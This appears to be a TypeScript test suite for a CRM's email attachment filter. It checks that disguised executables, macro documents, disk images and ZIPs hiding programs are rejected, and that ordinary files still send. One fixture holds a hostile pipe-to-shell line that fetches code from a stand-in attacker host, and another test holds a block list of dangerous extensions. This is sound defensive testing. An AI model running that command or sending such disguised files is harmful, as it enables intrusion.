/**
 * Issue 26 (Low): a Java archive named invoice.pdf or tool.zip was accepted (labelled
 * application/java-archive by the CRM itself), so were ZIPs holding an .exe and files named .iso,
 * .vhd, .one, .url, .chm, .msix, .wsc, .appref-ms, .svg, .sh. The policy (docs/hardening.md):
 * programs and scripts are refused by name, by content, and inside a ZIP's listing.
 */
import { expect } from 'chai';
import CFB from 'cfb';
import type { Express } from 'express';
import request from 'supertest';
import { elfFixture } from '../timesheets/fixtures.js';
import { randomFile, sendingWorld, uniqueSubject, type CrmUser, type MailUser } from '../sending/helpers.js';

function zipOf(entries: Record<string, Buffer | string>): Buffer {
  const zip = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(entries)) CFB.utils.cfb_add(zip, `/${name}`, typeof content === 'string' ? Buffer.from(content) : content);
  return Buffer.from(CFB.write(zip, { type: 'buffer', fileType: 'zip' }) as Uint8Array);
}

function compoundOf(entries: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(entries)) CFB.utils.cfb_add(container, `/${name}`, content);
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

describe('attacks: executables as attachments (issue 26)', function () {
  this.timeout(90_000);
  let app: Express;
  let bob: MailUser;
  let owner: CrmUser;
  let accountId: string;

  before(async () => {
    ({ app, bob, owner, accountId } = await sendingWorld());
  });

  const send = (name: string, bytes: Buffer) =>
    owner
      .as(request(app).post('/api/emails'))
      .field('emailAccountId', accountId)
      .field('to', bob.user)
      .field('subject', uniqueSubject('Priloha'))
      .field('text', 'x')
      .attach('attachments', bytes, { filename: name, contentType: 'application/pdf' });

  it('refuses programs and scripts by content, whatever they are called', async () => {
    const iso = randomFile(40_000);
    iso.write('CD001', 32769, 'latin1');
    const cases: Array<[string, Buffer]> = [
      ['invoice.pdf', zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: Evil\n', 'Evil.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) })],
      ['tool.zip', zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'a/B.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) })],
      ['Trieda.pdf', Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), randomFile(200)])],
      ['linux.pdf', elfFixture()],
      ['mac.pdf', Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00]), Buffer.alloc(500)])],
      ['poznamky.txt', Buffer.from('#!/bin/sh\ncurl https://evil.test/x | sh\n')],
      ['zmluva.doc', compoundOf({ WordDocument: Buffer.alloc(4096, 0x11), 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(600, 0x01) })],
      ['obraz.bin', iso],
      ['disk.bin', Buffer.concat([Buffer.from('vhdxfile', 'latin1'), randomFile(1000)])],
    ];
    for (const [name, bytes] of cases) {
      const res = await send(name, bytes);
      expect(res.status, `${name}: ${JSON.stringify(res.body)}`).to.equal(400);
      expect(res.body.error.code, name).to.equal('attachment_not_allowed');
    }
  });

  it('refuses a ZIP whose listing holds a program, also deep in a folder or after harmless entries', async () => {
    const cases: Array<[string, Buffer]> = [
      ['tool.zip', zipOf({ 'readme.txt': 'Spustite setup.', 'setup.exe': randomFile(3000) })],
      ['faktury.zip', zipOf({ 'a.pdf': randomFile(20_000), 'b/c/d/faktura.pdf.js': 'WScript.Shell' })],
      ['scan.zip', zipOf({ 'scan.pdf.lnk': randomFile(100) })],
    ];
    for (const [name, bytes] of cases) {
      const res = await send(name, bytes);
      expect(res.status, `${name}: ${JSON.stringify(res.body)}`).to.equal(400);
      expect(res.body.error.code, name).to.equal('attachment_not_allowed');
    }
  });

  it('refuses the extended list of dangerous names', async () => {
    for (const ext of ['iso', 'img', 'vhd', 'vhdx', 'one', 'url', 'chm', 'msix', 'wsc', 'appref-ms', 'svg', 'sh', 'jar', 'ps1', 'hta']) {
      const res = await send(`dokument.${ext}`, randomFile(200));
      expect(res.status, `${ext}: ${JSON.stringify(res.body)}`).to.equal(400);
      expect(res.body.error.code, ext).to.equal('attachment_not_allowed');
    }
    expect((await send('faktura.exe. . ', randomFile(200))).status).to.equal(400);
  });

  it('still sends ordinary archives and documents', async () => {
    for (const [name, bytes] of [
      ['podklady.zip', zipOf({ 'zmluva.pdf': randomFile(20_000), 'tabulka.xlsx': randomFile(5000), 'foto/obr.jpg': randomFile(3000) })],
      ['list.doc', compoundOf({ WordDocument: Buffer.alloc(4096, 0x11), '1Table': Buffer.alloc(1024, 0x22) })],
      ['data.bin', randomFile(50_000)],
    ] as Array<[string, Buffer]>) {
      const res = await send(name, bytes);
      expect(res.status, `${name}: ${JSON.stringify(res.body)}`).to.equal(201);
    }
  });
});
